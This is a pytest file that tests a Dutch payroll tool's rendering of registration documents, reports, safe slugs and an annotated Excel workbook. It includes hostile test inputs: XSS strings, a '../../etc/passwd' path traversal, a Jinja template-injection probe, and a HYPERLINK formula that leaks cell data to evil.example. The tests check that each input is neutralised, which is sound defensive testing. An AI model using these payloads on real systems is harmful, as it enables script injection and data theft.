"""Render step: registration documents, overzicht/foutenrapport, PDF, safe slugs and the annotated workbook.

Results are built directly (no reader), one concern per test.
"""

from __future__ import annotations

import hashlib
import os
import sys
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from batch import render
from batch.annotate import write_annotated_copy
from batch.catalogue import Issue, Severity
from batch.errors import UnusableInput
from batch.model import Dga, InputInfo, Office, Result, RowResult
from batch.render import (
    check_templates,
    document_basename,
    document_context,
    make_environment,
    render_document,
    render_error_report,
    render_overview,
)
from batch.slug import slugify

SECRET = "Sup3rGeheim-7f3a9c2e3f9a"
OFFICE_SECRET = "KantoorGeheim-0000aaaa"
GENERATED = datetime(2025, 3, 14, 9, 30, tzinfo=timezone(timedelta(hours=1)))
HOSTILE_NAME = "<script>alert(1)</script>"
HOSTILE_ATTR = '"><img src=x onerror=1>'


def record(**overrides: str | None) -> dict[str, str | None]:
    values: dict[str, str | None] = {
        "werkgeverscode": "1001",
        "naam": "Bakkerij De Korenaar B.V.",
        "client_id": "a1b2c3d4-client",
        "client_secret": SECRET,
        "dga": "Ja",
        "dga_naam": "J. de Vries; M. Öztürk",
        "dga_medewerkersnummer": "12; 15",
        "dertiende_maand": "Nee",
        "verloning": "4-wekelijks",
        "kvk_nummer": "12345678",
        "loonheffingennummer": "123456782L01",
        "opmerkingen": "Graag vóór 1 mei",
    }
    values.update(overrides)
    return values


def valid_row(row: int = 5, **overrides: str | None) -> RowResult:
    rec = record(**overrides)
    dgas = []
    if rec["dga"] == "Ja":
        names = [n.strip() for n in (rec["dga_naam"] or "").split(";")]
        numbers = [n.strip() for n in (rec["dga_medewerkersnummer"] or "").split(";")]
        dgas = [Dga(n, m) for n, m in zip(names, numbers, strict=True)]
    code = rec["werkgeverscode"]
    return RowResult(row=row, status="valid", werkgeverscode=code, record=rec, dgas=dgas,
                     documents=[f"aanmeldingen/{code}-bakkerij.html", f"aanmeldingen/{code}-bakkerij.pdf"])


def issue(code: str = "kvk_formaat", *, severity: Severity = Severity.ERROR, row: int | None = 6,
          field: str | None = "kvk_nummer", column: str | None = "KvK-nummer", cell: str | None = "J6",
          value: str | None = "123", message: str = "'KvK-nummer' moet 8 cijfers zijn, maar is '123'.",
          fix: str = "Neem het KvK-nummer van 8 cijfers over.") -> Issue:
    return Issue(severity=severity, code=code, message=message, fix=fix, row=row, field=field, column=column,
                 cell=cell, value=value)


def make_result(rows: list[RowResult] | None = None, file_issues: list[Issue] | None = None) -> Result:
    office = Office({"naam": "Salarisbureau Zuid", "contactpersoon": "Anke Jansen", "email": "anke@zuid.nl",
                     "telefoon": "010-1234567", "client_id": "a1b2c3d4-client", "client_secret": OFFICE_SECRET})
    return Result(input=InputInfo("werkgevers maart.xlsx", "a" * 64, "Werkgevers", 1),
                  rows=rows if rows is not None else [valid_row()], file_issues=file_issues or [],
                  office=office, generated_at=GENERATED)


def in_order(text: str, *parts: str) -> None:
    position = 0
    for part in parts:
        found = text.find(part, position)
        assert found >= 0, f"{part!r} missing (or out of order) after position {position}"
        position = found + len(part)


# What a registration document of `valid_row()` shows, in this order, in either medium.
DOCUMENT_IN_ORDER = (
    ("Client ID", "a1b2c3d4-client", "Client Secret", SECRET, "Werkgeverscode", "1001", "DGA in verloning", "Ja",
     "Naam DGA 1", "J. de Vries", "Medewerkersnummer DGA 1", "12", "Naam DGA 2", "M. Öztürk",
     "Medewerkersnummer DGA 2", "15", "13e maand", "Nee", "Verloning", "4-wekelijks"),
    ("Naam werkgever", "Bakkerij De Korenaar B.V.", "KvK-nummer", "12345678", "Loonheffingennummer",
     "123456782L01", "Opmerkingen", "Graag vóór 1 mei", "Naam salarisverwerker", "Salarisbureau Zuid",
     "Contactpersoon", "Anke Jansen", "E-mailadres", "anke@zuid.nl", "Telefoonnummer", "010-1234567"),
)


@pytest.fixture(scope="module")
def env():  # type: ignore[no-untyped-def]
    return make_environment()


# --- registration document --------------------------------------------------------------------------------


def test_document_has_every_step2_value_in_manual_order(env) -> None:  # type: ignore[no-untyped-def]
    result = make_result()
    html = render_document(env, result.rows[0], result, mask_secrets=False)
    for parts in DOCUMENT_IN_ORDER:
        in_order(html, *parts)
    in_order(html, "Stap 1", "gebruiker .01", "Onderhoud → Systeembeheer → Toegangsbeheer",
             "Autorisatie Werkgevers", "Stap 2", "asr.nl/salarisverwerkers", "Aanmelden nieuwe werkgever",
             "Stap 3", "eerste gegevensuitwisseling", "____")
    in_order(html, "werkgevers maart.xlsx", "rij 5", "14 maart 2025", "asr-batch 0.1.0")
    assert "@page { size: A4" in html
    assert OFFICE_SECRET not in html
    assert 'data-kopieer="w-client-secret"' in html and "navigator.clipboard" in html
    assert 'src="http' not in html and "<link" not in html  # everything inline


def test_document_leaves_out_optional_values_that_are_empty(env) -> None:  # type: ignore[no-untyped-def]
    row = valid_row(dga="Nee", dga_naam=None, dga_medewerkersnummer=None, kvk_nummer=None,
                    loonheffingennummer=None, opmerkingen=None)
    result = make_result([row])
    html = render_document(env, row, result, mask_secrets=False)
    assert "KvK-nummer" not in html and "Loonheffingennummer" not in html and "Opmerkingen" not in html
    assert "Naam DGA" not in html
    in_order(html, "DGA in verloning", "Nee", "13e maand")


def test_hostile_text_is_escaped(env) -> None:  # type: ignore[no-untyped-def]
    row = valid_row(naam=HOSTILE_NAME, opmerkingen=HOSTILE_ATTR, dga_naam=HOSTILE_ATTR, dga_medewerkersnummer="7")
    result = make_result([row])
    html = render_document(env, row, result, mask_secrets=False)
    assert "<script>alert(1)" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img" not in html
    assert "&#34;&gt;&lt;img src=x onerror=1&gt;" in html
    assert html.count("<script>") == 1  # only the copy-button script


def test_masked_document_shows_only_last_four_and_no_copy_button(env) -> None:  # type: ignore[no-untyped-def]
    result = make_result()
    html = render_document(env, result.rows[0], result, mask_secrets=True)
    assert SECRET not in html and SECRET[:-4] not in html
    assert "••••••••3f9a" in html
    assert 'data-kopieer="w-client-secret"' not in html
    assert 'data-kopieer="w-client-id"' in html


def test_unmasked_document_carries_the_secret(env) -> None:  # type: ignore[no-untyped-def]
    result = make_result()
    html = render_document(env, result.rows[0], result, mask_secrets=False)
    assert SECRET in html


def test_document_basename_is_code_and_slug() -> None:
    assert document_basename(valid_row()) == "1001-bakkerij-de-korenaar-b-v"
    assert document_basename(valid_row(naam="../../etc/passwd", werkgeverscode="0042")) == "0042-etc-passwd"


# --- overview and error report ----------------------------------------------------------------------------


def mixed_result() -> Result:
    invalid = RowResult(row=6, status="invalid", werkgeverscode="1002",
                        record=record(werkgeverscode="1002", naam="Garage Ünal", client_secret=SECRET),
                        issues=[issue(),
                                issue("spatie", field="client_secret", column="Client Secret", cell="D6",
                                      value=None, message="'Client Secret' bevat een spatie.",
                                      fix="Kopieer de waarde opnieuw uit Exact."),
                                issue("dga_bsn", severity=Severity.WARNING, field="dga_medewerkersnummer",
                                      column="Medewerkersnummer DGA", cell="G6", value="111222333",
                                      message="Medewerkersnummer DGA '111222333' lijkt een BSN.",
                                      fix="Gebruik het medewerkersnummer uit Exact.")])
    skipped = RowResult(row=7, status="skipped", werkgeverscode=None, reason="lege rij")
    file_issue = issue("kolom_onbekend", severity=Severity.WARNING, row=None, field=None, column="Fax",
                       cell="M1", value=None, message="Kolom 'Fax' wordt niet herkend en wordt genegeerd.",
                       fix="Pas de kop aan of verwijder de kolom.")
    return make_result([valid_row(), invalid, skipped], [file_issue])


def test_overview_lists_every_row_with_status_links_and_issues(env) -> None:  # type: ignore[no-untyped-def]
    html = render_overview(env, mixed_result())
    in_order(html, "werkgevers maart.xlsx", "Werkgevers", "14 maart 2025")
    for count, label in (("3", "rijen"), ("1", "geldig"), ("1", "ongeldig"), ("1", "overgeslagen"),
                         ("2", "fouten"), ("2", "waarschuwingen")):
        assert f"<b>{count}</b>{label}" in html
    in_order(html, "Kolom &#39;Fax&#39; wordt niet herkend")
    in_order(html, "<td>5</td>", "geldig", "1001", "Bakkerij De Korenaar B.V.",
             'href="aanmeldingen/1001-bakkerij.html"', 'href="aanmeldingen/1001-bakkerij.pdf"',
             "<td>6</td>", "ongeldig", "1002", "Garage Ünal", "Fout", "J6", "moet 8 cijfers zijn",
             "Waarschuwing", "G6", "<td>7</td>", "overgeslagen", "lege rij")


def test_reports_never_contain_a_secret(env) -> None:  # type: ignore[no-untyped-def]
    result = mixed_result()
    # Even an issue carrying the secret as its value (a reader bug) must not show it for a secret field.
    result.rows[1].issues.append(issue("secret_conflict", field="client_secret", column="Client Secret",
                                       cell="D6", value=SECRET, message="Tweede secret.", fix="Herstel."))
    for html in (render_overview(env, result), render_error_report(env, result)):
        assert SECRET not in html and OFFICE_SECRET not in html
        assert SECRET[-8:] not in html


def test_error_report_groups_by_row_with_cell_column_value_message_fix(env) -> None:  # type: ignore[no-untyped-def]
    html = render_error_report(env, mixed_result())
    assert "Geen fouten of waarschuwingen gevonden." not in html
    in_order(html, "Het bestand", "M1", "Fax", "Kolom &#39;Fax&#39; wordt niet herkend",
             "Pas de kop aan", "Rij 6", "1002", "Garage Ünal", "Fout", "J6", "KvK-nummer", "123",
             "moet 8 cijfers zijn", "Neem het KvK-nummer", "D6", "Client Secret",
             "&#39;Client Secret&#39; bevat een spatie.", "Kopieer de waarde", "Waarschuwing", "G6",
             "111222333", "lijkt een BSN", "Gebruik het medewerkersnummer")
    assert "Rij 5" not in html  # rows without issues are not listed


def test_clean_error_report_says_so(env) -> None:  # type: ignore[no-untyped-def]
    html = render_error_report(env, make_result())
    assert "Geen fouten of waarschuwingen gevonden." in html
    assert "Geen fouten of waarschuwingen gevonden." in render_overview(env, make_result())


# --- custom templates -------------------------------------------------------------------------------------


# The built-in document is rendered once per shape and filled in per row (render.py); Jinja2 itself is the
# reference. Values mix empty and hostile text, marker-like characters, DGAs and the office's optional fields.
_TEXT = st.one_of(st.none(), st.just(""), st.text(alphabet="aZ09 &<>\"'é€\ue000\ue001:;—", min_size=1, max_size=8))
_OPTIONAL = ("client_id", "client_secret", "kvk_nummer", "loonheffingennummer", "opmerkingen", "dertiende_maand",
             "verloning", "naam", "werkgeverscode")


_SHARED_ENV = make_environment()


@settings(max_examples=150, deadline=None)
@given(values=st.fixed_dictionaries({key: _TEXT for key in _OPTIONAL}),
       dgas=st.lists(st.tuples(_TEXT, _TEXT), max_size=3),
       office=st.fixed_dictionaries({key: _TEXT for key in ("naam", "contactpersoon", "email", "telefoon")}),
       file_name=st.sampled_from(["werkgevers.xlsx", "<b>&'\".xlsx", "\ue000x:0\ue001.xlsx"]),
       row_number=st.integers(min_value=2, max_value=1_048_576),
       mask=st.booleans())
def test_built_in_document_by_shape_equals_jinja2(values, dgas, office, file_name, row_number,
                                                  mask) -> None:  # type: ignore[no-untyped-def]
    env = _SHARED_ENV  # one environment for all examples: shapes cached for one office and file serve no other
    rec = record(**values, dga="Ja" if dgas else "Nee")
    row = RowResult(row=row_number, status="valid", werkgeverscode=rec["werkgeverscode"], record=rec,
                    dgas=[Dga(naam or "", nummer or "") for naam, nummer in dgas])
    result = make_result([row])
    result.office = Office(office)
    result.input = InputInfo(file_name, "a" * 64, "Blad <1>", 1)
    expected = env.get_template("aanmelding.html").render(
        document_context(row, result, mask_secrets=mask))
    assert render_document(env, row, result, mask_secrets=mask) == expected
    # and again from the cached shape, for a second row of that shape
    assert render_document(env, row, result, mask_secrets=mask) == expected


def _by_jinja2(env, row: RowResult, result: Result, **options: object) -> str:  # type: ignore[no-untyped-def]
    return env.get_template("aanmelding.html").render(document_context(row, result, **options))


def test_empty_values_that_print_otherwise_than_empty_text_are_rendered_by_jinja2(env) -> None:  # type: ignore[no-untyped-def]
    """Records hold text, but a library caller may pass 0, 0.0 or False: equal as keys, printed differently."""
    for naam in (0, 0.0, False, []):
        row = valid_row(naam=naam)  # type: ignore[arg-type]
        result = make_result([row])
        assert render_document(env, row, result, mask_secrets=False) == _by_jinja2(
            env, row, result, mask_secrets=False), naam


def test_the_shape_cache_stays_within_its_size(monkeypatch: pytest.MonkeyPatch) -> None:
    """The number of DGAs is part of a shape, and a row may have a thousand: the cache is bounded by its text."""
    monkeypatch.setattr(render, "_MAX_SHAPES_SIZE", 200_000)
    env = make_environment()
    for count in range(1, 40):
        names = "; ".join(f"DGA {n}" for n in range(count * 5))
        numbers = "; ".join(str(n) for n in range(count * 5))
        row = valid_row(dga_naam=names, dga_medewerkersnummer=numbers)
        result = make_result([row])
        html = render_document(env, row, result, mask_secrets=False)
        assert html == _by_jinja2(env, row, result, mask_secrets=False)
        assert env.document_shapes_size <= 200_000
        assert env.document_shapes_size == sum(len(t) for shape in env.document_shapes.values() for t in shape.texts)


def test_office_templates_are_rendered_by_jinja2_itself(tmp_path: Path) -> None:
    """An office's template may transform or compare a row's values, which a shape cannot stand in for."""
    (tmp_path / "aanmelding.html").write_text(
        "{{ werkgever.naam|upper }}{% if werkgever.verloning == '4-wekelijks' %} vier weken{% endif %}",
        encoding="utf-8")
    env = make_environment(tmp_path)
    result = make_result([valid_row(naam="Bakker"), valid_row(naam="Smid", verloning="maandelijks")])
    assert [render_document(env, row, result, mask_secrets=False) for row in result.rows] == [
        "BAKKER vier weken", "SMID"]


def test_custom_template_dir_overrides_aanmelding(tmp_path: Path) -> None:
    (tmp_path / "aanmelding.html").write_text(
        "<h1>EIGEN {{ werkgever.naam }}</h1>{% for r in gegevens %}<p>{{ r.label }}={{ r.waarde }}</p>"
        "{% endfor %}<p>{{ kantoor.naam }} {{ bron.rij }} {{ versie }}</p>", encoding="utf-8")
    env = make_environment(tmp_path)
    check_templates(env)
    row = valid_row(naam=HOSTILE_NAME)
    result = make_result([row])
    html = render_document(env, row, result, mask_secrets=True)
    assert html.startswith("<h1>EIGEN &lt;script&gt;")  # autoescaped although the office wrote it
    assert "<p>Client Secret=••••••••3f9a</p>" in html and SECRET not in html
    assert "Salarisbureau Zuid 5 asr-batch 0.1.0" in html
    assert "Overzicht aanmeldingen" in render_overview(env, result)  # the others stay built in


@pytest.mark.parametrize(
    ("source", "line", "detail"),
    [
        ("<p>\n</p>\n{% if %}\n", 3, "syntaxfout"),
        ("<p>\n{{ werkgever.faxnummer }}</p>\n", 2, "onbekende variabele"),
        ("\n\n\n{% include 'kop.html' %}\n", 4, "kop.html"),
        ("{{ ''.__class__.__mro__ }}", 1, ""),
    ],
)
def test_broken_custom_template_is_unusable_input_naming_file_and_line(
        tmp_path: Path, source: str, line: int, detail: str) -> None:
    (tmp_path / "aanmelding.html").write_text(source, encoding="utf-8")
    env = make_environment(tmp_path)
    with pytest.raises(UnusableInput) as caught:
        check_templates(env)
    message = caught.value.message
    assert "aanmelding.html" in message and f"regel {line}" in message and detail in message
    assert "sjabloon" in caught.value.fix


def test_missing_template_dir_is_unusable_input(tmp_path: Path) -> None:
    with pytest.raises(UnusableInput, match="bestaat niet"):
        make_environment(tmp_path / "nergens")


def test_templates_are_compiled_once(env) -> None:  # type: ignore[no-untyped-def]
    assert env.get_template("aanmelding.html") is env.get_template("aanmelding.html")


# --- slugs ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("CON", "werkgever-con"),
        ("lpt1", "werkgever-lpt1"),
        ("a:b*c?", "a-b-c"),
        ("Ünïcödé Łódź", "unicode-lodz"),
        ("", "werkgever"),
        ("....", "werkgever"),
        ("  Bakkerij  De Korenaar B.V.  ", "bakkerij-de-korenaar-b-v"),
        ("C:\\Windows\\system32", "c-windows-system32"),
        ("Straße & Søn", "strasse-en-son"),
        ("x" * 200, "x" * 60),
    ],
)
def test_slugify_is_safe(text: str, expected: str) -> None:
    slug = slugify(text)
    assert slug == expected
    assert len(slug) <= 60 and slug.strip("-") == slug
    assert all(c in "abcdefghijklmnopqrstuvwxyz0123456789-" for c in slug)


# --- annotated workbook -----------------------------------------------------------------------------------

HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


def source_workbook(path: Path, sheet: str = "Werkgevers") -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    ws.append(["Werkgeverscode", "Naam werkgever", "Client Secret", "KvK-nummer", "Totaal"])
    ws.append(["1001", "Bakkerij", SECRET, "12345678", "=1+1"])
    ws.append(["1002", HOSTILE_FORMULA, SECRET, "123", "=SUM(1,2)"])
    ws.append(["1003", "Garage", SECRET, "87654321", None])
    ws["B4"].comment = Comment("van het kantoor", "Anke")
    ws.merge_cells("A6:B6")
    ws["A6"] = "samengevoegd"
    wb.create_sheet("Salarisverwerker")["A1"] = "Naam salarisverwerker"
    wb.save(path)


def annotate_result(sheet: str = "Werkgevers") -> Result:
    issues = [
        issue(row=3, cell="D3", column="KvK-nummer", value="123"),
        issue("dubbele_werkgeverscode", severity=Severity.WARNING, row=4, cell="B4", column="Naam werkgever",
              field="naam", value=HOSTILE_FORMULA, message=HOSTILE_FORMULA, fix="+31 bellen"),
        issue("dga_aantal", row=3, cell=None, column=None, field=None, value=None,
              message="Er staan 2 DGA-namen maar 1 medewerkersnummer.", fix="Geef elke DGA een nummer."),
        issue("verplicht", row=6, cell="B6", column="Naam werkgever", field="naam", value=None,
              message="'Naam werkgever' is leeg.", fix="Vul 'Naam werkgever' in."),
    ]
    rows = [valid_row(row=2),
            RowResult(row=3, status="invalid", werkgeverscode="1002", issues=issues[0:1] + issues[2:3]),
            RowResult(row=4, status="valid", werkgeverscode="1003", issues=[issues[1]]),
            RowResult(row=6, status="invalid", werkgeverscode=None, issues=[issues[3]])]
    file_issue = issue("kolom_onbekend", severity=Severity.WARNING, row=None, cell=None, column="-Fax",
                       field=None, value=None, message="Kolom '-Fax' wordt niet herkend.", fix="@Verwijder")
    result = make_result(rows, [file_issue])
    result.input = InputInfo("werkgevers.xlsx", "a" * 64, sheet, 1)
    return result


def test_annotated_copy_marks_exactly_the_flagged_cells(tmp_path: Path) -> None:
    source, dest = tmp_path / "werkgevers.xlsx", tmp_path / "uit" / "foutenrapport.xlsx"
    dest.parent.mkdir()
    source_workbook(source)
    before = hashlib.sha256(source.read_bytes()).hexdigest()
    write_annotated_copy(source, annotate_result(), "Werkgevers", dest)
    assert hashlib.sha256(source.read_bytes()).hexdigest() == before

    wb = load_workbook(dest)
    ws = wb["Werkgevers"]
    expected = {"D3": "FFFFC7CE", "A3": "FFFFC7CE", "B4": "FFFFEB9C", "A6": "FFFFC7CE"}
    for row in ws.iter_rows(min_row=1, max_row=8, max_col=6):
        for cell in row:
            if cell.coordinate in expected:
                assert cell.fill.fill_type == "solid" and cell.fill.start_color.rgb == expected[cell.coordinate]
                assert cell.comment is not None and cell.comment.author == "asr-batch"
            else:
                assert cell.fill.fill_type is None, cell.coordinate
                assert cell.comment is None, cell.coordinate
    assert "moet 8 cijfers zijn" in ws["D3"].comment.text and "Neem het KvK-nummer" in ws["D3"].comment.text
    assert "Er staan 2 DGA-namen" in ws["A3"].comment.text  # row-only issue: first cell of the row
    assert "van het kantoor" in ws["B4"].comment.text  # the office's own comment is kept
    assert ws["E2"].value == "=1+1" and ws["E3"].value == "=SUM(1,2)"  # formulas stay formulas
    assert ws["B3"].value == HOSTILE_FORMULA  # the office's own cell stays as it was
    assert ws["C2"].value == SECRET  # a copy of the office's workbook keeps its values
    assert wb.active.title == "Fouten"


def test_fouten_sheet_lists_issues_with_links_and_plain_text(tmp_path: Path) -> None:
    source, dest = tmp_path / "werkgevers.xlsx", tmp_path / "foutenrapport.xlsx"
    source_workbook(source, sheet="Werk'gevers 2025")
    write_annotated_copy(source, annotate_result("Werk'gevers 2025"), "Werk'gevers 2025", dest)
    ws = load_workbook(dest)["Fouten"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("Rij", "Cel", "Kolom", "Ernst", "Code", "Melding", "Oplossing")
    assert len(rows) == 6  # 1 file-level + 4 row issues
    assert rows[1][:5] == (None, None, "-Fax", "Waarschuwing", "kolom_onbekend")
    assert rows[2][:5] == (3, "D3", "KvK-nummer", "Fout", "kvk_formaat")
    assert ws["B3"].hyperlink.location == "'Werk''gevers 2025'!D3"
    assert ws["B4"].value == "rij 3" and ws["B4"].hyperlink.location == "'Werk''gevers 2025'!A3"
    assert ws["B6"].hyperlink.location == "'Werk''gevers 2025'!A6"  # merged: its top-left cell
    for coordinate in ("F5", "C2", "G2", "G5"):
        cell = ws[coordinate]
        assert cell.data_type == "s" and cell.quotePrefix, coordinate
    assert ws["F5"].value == HOSTILE_FORMULA and ws["G5"].value == "+31 bellen"
    with zipfile.ZipFile(dest) as archive:  # sheet Fouten is the last one written
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        fouten_xml = archive.read(max(names, key=lambda n: int(n.removeprefix("xl/worksheets/sheet")[:-4])))
    assert b"Klik hier" in fouten_xml and b"<f>" not in fouten_xml


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_annotated_copy_is_owner_only(tmp_path: Path) -> None:
    source, dest = tmp_path / "werkgevers.xlsx", tmp_path / "foutenrapport.xlsx"
    source_workbook(source)
    write_annotated_copy(source, annotate_result(), "Werkgevers", dest)
    assert os.stat(dest).st_mode & 0o777 == 0o600


def test_xlsm_source_becomes_plain_xlsx(tmp_path: Path) -> None:
    source, dest = tmp_path / "werkgevers.xlsm", tmp_path / "foutenrapport.xlsx"
    source_workbook(source)
    write_annotated_copy(source, annotate_result(), "Werkgevers", dest)
    with zipfile.ZipFile(dest) as archive:
        types = archive.read("[Content_Types].xml").decode()
        assert "sheet.main+xml" in types and "macroEnabled" not in types
        assert not any(name.endswith("vbaProject.bin") for name in archive.namelist())


def test_unreadable_source_gives_a_fouten_only_workbook(tmp_path: Path) -> None:
    source, dest = tmp_path / "werkgevers.xlsx", tmp_path / "foutenrapport.xlsx"
    source.write_text("geen werkmap", encoding="utf-8")
    write_annotated_copy(source, annotate_result(), "Werkgevers", dest)
    wb = load_workbook(dest)
    assert wb.sheetnames == ["Fouten"] and wb["Fouten"]["B3"].hyperlink is None


def test_annotated_copy_never_overwrites_the_input(tmp_path: Path) -> None:
    source = tmp_path / "werkgevers.xlsx"
    source_workbook(source)
    with pytest.raises(ValueError):
        write_annotated_copy(source, annotate_result(), "Werkgevers", source)


def test_template_error_never_quotes_the_secret(tmp_path: Path) -> None:
    (tmp_path / "aanmelding.html").write_text("{{ {}[werkgever.client_secret] }}", encoding="utf-8")
    env = make_environment(tmp_path)
    result = make_result()
    with pytest.raises(UnusableInput) as caught:
        render_document(env, result.rows[0], result, mask_secrets=False)
    assert "regel 1" in caught.value.message and SECRET not in str(caught.value)
